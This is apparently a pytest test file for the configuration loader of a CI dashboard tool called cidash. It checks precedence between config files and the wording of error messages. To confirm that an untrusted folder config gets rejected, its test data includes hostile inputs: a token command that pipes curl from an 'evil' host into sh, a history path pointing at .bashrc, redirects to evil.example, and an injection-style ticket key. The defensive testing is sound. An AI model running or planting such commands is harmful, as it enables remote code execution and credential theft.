"""Which file counts, and sentences that say where a mistake is and what to do."""

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cidash.config.load import FOLDER_FILE, ConfigError, load, load_text
from cidash.config.model import Config

REPOSITORY = '[[repositories]]\nname = "{}"\n'


@pytest.fixture
def own(home: Path) -> Callable[[str], Path]:
    def write(text: str) -> Path:
        path = home / "config" / "cidash" / "config.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    return write


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    path = tmp_path / "clone" / "deep" / "er"
    path.mkdir(parents=True)
    return path


def names(config: Config) -> list[str]:
    return [repository.name for repository in config.repositories]


def test_nothing_anywhere_gives_the_defaults(folder: Path, environ: dict[str, str]) -> None:
    loaded = load(None, folder, environ)
    assert loaded.config == Config()
    assert loaded.files == ()
    assert not loaded.chosen


def test_precedence(folder: Path, environ: dict[str, str], own: Callable[[str], Path], tmp_path: Path) -> None:
    first = own(REPOSITORY.format("a/own"))
    assert names(load(None, folder, environ).config) == ["a/own"]
    second = tmp_path / "second.toml"
    second.write_text(REPOSITORY.format("a/second"))
    environ["CIDASH_CONFIG"] = str(second)
    loaded = load(None, folder, environ)
    assert (names(loaded.config), loaded.files, loaded.chosen) == (["a/second"], (second,), True)
    third = tmp_path / "third.toml"
    third.write_text(REPOSITORY.format("a/third"))
    assert names(load(third, folder, environ).config) == ["a/third"]
    assert first.exists()


def test_a_folder_file_above_is_laid_over_and_lists_replace(
    folder: Path, environ: dict[str, str], own: Callable[[str], Path]
) -> None:
    path = own(REPOSITORY.format("a/own") + '[jira]\nurl = "https://x.example"\nepic = "OWN-1"\n')
    over = folder.parents[1] / FOLDER_FILE
    over.write_text(REPOSITORY.format("a/b") + REPOSITORY.format("c/d") + '[jira]\nepic = "kan-40"\n')
    loaded = load(None, folder, environ)
    assert names(loaded.config) == ["a/b", "c/d"]
    assert loaded.config.jira is not None
    assert (loaded.config.jira.url, loaded.config.jira.epic) == ("https://x.example", "KAN-40")
    assert loaded.files == (path, over)
    assert loaded.chosen


def test_the_nearest_folder_file_counts(folder: Path, environ: dict[str, str]) -> None:
    (folder.parents[1] / FOLDER_FILE).write_text(REPOSITORY.format("far/away"))
    (folder / FOLDER_FILE).write_text('[jira]\nepic = "KAN-1"\n')
    loaded = load(None, folder, environ)
    assert loaded.config.repositories == ()
    assert loaded.config.jira is not None
    assert loaded.config.jira.url == ""
    assert not loaded.chosen


def test_an_explicit_file_stands_alone(folder: Path, environ: dict[str, str], tmp_path: Path) -> None:
    (folder / FOLDER_FILE).write_text('[hosts."evil.example"]\n')
    file = tmp_path / "c.toml"
    file.write_text("")
    assert load(file, folder, environ).files == (file,)


def test_a_folder_file_that_the_user_named_is_the_users(folder: Path, environ: dict[str, str]) -> None:
    path = folder / FOLDER_FILE
    path.write_text('[hosts."ghe.example.com"]\n')
    environ["CIDASH_CONFIG"] = str(path)
    loaded = load(None, folder, environ)
    assert loaded.files == (path,)
    assert "ghe.example.com" in loaded.config.hosts


STRANGE = [
    ('[hosts."evil.example"]\napi_url = "https://evil.example"\n', "line 1: hosts is not allowed"),
    ('\nhosts."github.com".token = { env = "AWS_SECRET" }\n', "line 2: hosts is not allowed"),
    ('[jira]\nepic = "KAN-1"\nurl = "https://evil.example"\n', "line 3: jira.url is not allowed"),
    ('[jira]\ntoken = { command = ["sh", "-c", "curl evil|sh"] }\n', "line 2: jira.token is not allowed"),
    ('jira = { email = { command = ["x"] } }\n', "line 1: jira.email is not allowed"),
    ('[jira]\napi_url = "https://evil.example"\n', "jira.api_url is not allowed"),
    ('[history]\npath = "/home/you/.bashrc"\n', "history is not allowed"),
    ("[polling]\nbudget = 1.0\n", "polling is not allowed"),
    ('[screen]\ntheme = "x"\n', "screen is not allowed"),
    ('[keys]\nrerun = "j"\n', "keys is not allowed"),
    ("read_only = false\n", "read_only is not allowed"),
    (REPOSITORY.format("a/b") + 'host = "evil.example"\n', "line 3: repositories[0].host is not a host of your own"),
    ('[jira]\nepic = "KAN-40 OR 1=1"\n', "line 2: jira.epic is not a ticket key"),
    ('token = "x"\n', "line 1: token is not a known key"),
    ("command = ['rm']\n", "line 1: command is not a known key"),
    ('[[repositories]]\nnam = "a/b"\n', "Did you mean repositories[0].name?"),
    ("x = [" + "[" * 5000, "is not valid TOML"),
    ("x = " + "9" * 5000, "is not valid TOML"),
    ("#" * 70_000, "is larger than 64 KiB"),
    ("jira.epic" + ".a" * 20_000 + " = 1", "jira.epic must be a text"),
]


@pytest.mark.parametrize(("text", "sentence"), STRANGE, ids=[sentence[:40] for _, sentence in STRANGE])
def test_a_strangers_file_only_chooses_what_to_show(
    text: str, sentence: str, folder: Path, environ: dict[str, str]
) -> None:
    (folder / FOLDER_FILE).write_text(text)
    with pytest.raises(ConfigError) as caught:
        load(None, folder, environ)
    told = str(caught.value)
    assert sentence in told
    assert str(folder / FOLDER_FILE) in told
    if "not allowed" in sentence:
        assert "config.toml" in told


def test_a_strangers_file_may_name_hosts_that_the_user_knows(
    folder: Path, environ: dict[str, str], own: Callable[[str], Path]
) -> None:
    own('[hosts."ghe.example.com"]\ntoken = { env = "X" }\n')
    (folder / FOLDER_FILE).write_text(REPOSITORY.format("a/b") + 'host = "GHE.example.com"\n')
    assert str(load(None, folder, environ).config.repositories[0].id) == "ghe.example.com/a/b"


def test_a_strangers_pipe_or_folder_is_passed_over(folder: Path, environ: dict[str, str]) -> None:
    os.mkfifo(folder / FOLDER_FILE)
    (folder.parent / FOLDER_FILE).mkdir()
    assert load(None, folder, environ).files == ()


def test_a_strangers_escape_codes_stay_in_the_file(folder: Path, environ: dict[str, str]) -> None:
    (folder / FOLDER_FILE).write_text('"\\u001b]52;c;x\\u0007\\u202e[red]" = 1\n')
    with pytest.raises(ConfigError) as caught:
        load(None, folder, environ)
    assert str(caught.value).isprintable()


SENTENCES = [
    ("x = \n", "line 1: is not valid TOML"),
    ('[jira]\nepic = "KAN-40\n', "line 2: is not valid TOML"),
    ('a = 1\n[jira\nurl = "x"', "line 2: is not valid TOML"),
    ("a = 1\na = 2\n", "line 2: is not valid TOML"),
    ('[jira]\nepik = "KAN-40"\n', "line 2: jira.epik is not a known key. Did you mean jira.epic?"),
    ('epic = "KAN-40"\n', "line 1: epic is not a known key. Did you mean jira.epic?"),
    ("[poling]\nbudget = 1\n", "line 1: poling is not a known key. Did you mean polling?"),
    ("[wholly]\nother = 1\n", "line 1: wholly is not a known key."),
    (
        REPOSITORY.format("a/b") + '\n[[repositories]]\n# name\nnme = "c/d"\n',
        "line 6: repositories[1].nme is not a known key. Did you mean repositories[1].name?",
    ),
    ('[[repositories]]\nhost = "github.com"\n', "line 1: repositories[0].name is missing."),
    ('repositories = ["a/b"]', "line 1: repositories[0] must be a table."),
    ('[repositories]\nname = "a/b"', "line 1: repositories must be a list."),
    ('[hosts."github.com"]\ntokn = 1', 'line 2: hosts."github.com".tokn is not a known key. Did you mean'),
    ('[hosts."github.com"]\ntoken = "ghp_s3cret"', 'line 2: hosts."github.com".token must be { env = '),
    ('[hosts."github.com"]\ntoken = { value = "ghp_s3cret" }', 'line 2: hosts."github.com".token is in plain text'),
    ('[hosts."github.com"]\ntoken = { vlue = "ghp_s3cret" }', "token.vlue is not a known key. Did you mean hosts."),
    ('[hosts."bad host"]\n', "line 1: hosts is not a host name"),
    ('[jira]\nurl = "http://x.example"', "line 2: jira.url is plain http"),
    ("[jira]\nemail = 3", "line 2: jira.email must be a text."),
    ("[jira]\nemail = { env = 3 }", "line 2: jira.email.env must be a text."),
    ('[screen]\nmouse = "yes"', "line 2: screen.mouse must be true or false."),
    ('[screen]\nglyphs = "emoji"', "line 2: screen.glyphs should be 'unicode' or 'ascii'."),
    ('[polling]\nbudget = "0.25"', "line 2: polling.budget must be a number."),
    ("[polling]\nbudget = 2", "line 2: polling.budget should be less than or equal to 1."),
    ("[polling]\nbudget = nan", "line 2: polling.budget should be a finite number."),
    ("[polling]\nactive_seconds = 0", "line 2: polling.active_seconds should be greater than or equal to 0.1."),
    ('[[targets]]\nid = "x"\ntitle = "X"\nlimit = "3 min"', "line 4: targets[0].limit is not a duration"),
    ('[[targets]]\nid = "x"\ntitle = "X"\nlimit = 2020-01-01', "line 4: targets[0].limit is not a duration"),
    ('[[targets]]\nid = "x"\ntitle = "X"', "line 1: targets[0] has the measure"),
    ("keys = 3", "line 1: keys must be a table."),
    ("[keys]\nrerun = 3", "line 2: keys.rerun must be a text."),
]


@pytest.mark.parametrize(("text", "sentence"), SENTENCES, ids=[sentence[:50] for _, sentence in SENTENCES])
def test_a_mistake_is_told_with_file_line_key_and_remedy(text: str, sentence: str) -> None:
    with pytest.raises(ConfigError) as caught:
        load_text(text, "/home/you/config.toml")
    told = str(caught.value)
    assert told.startswith("/home/you/config.toml, line ")
    assert sentence in told
    assert "s3cret" not in told


def test_a_named_file_that_is_missing(folder: Path, environ: dict[str, str], tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"nowhere.toml: can't be read \(No such file"):
        load(tmp_path / "nowhere.toml", folder, environ)
    environ["CIDASH_CONFIG"] = str(tmp_path)
    with pytest.raises(ConfigError, match="can't be read"):
        load(None, folder, environ)


def test_a_file_that_is_no_text(folder: Path, environ: dict[str, str], tmp_path: Path) -> None:
    file = tmp_path / "c.toml"
    file.write_bytes(b'a = 1\nb = "\xff"\n')
    with pytest.raises(ConfigError, match="line 2: is not UTF-8"):
        load(file, folder, environ)
    file.write_bytes(b"\xef\xbb\xbfread_only = true\r\n")
    assert load(file, folder, environ).config.read_only


TOML = st.text(alphabet="abejirxkz[]{}=\"'.#\n _-0", max_size=60)


@settings(deadline=None)
@given(TOML)
def test_any_text_is_a_config_or_a_sentence(text: str) -> None:
    told = "c.toml"
    try:
        load_text(text, "c.toml")
    except ConfigError as error:
        told = str(error)
    assert told.startswith("c.toml")
    assert told.isprintable()
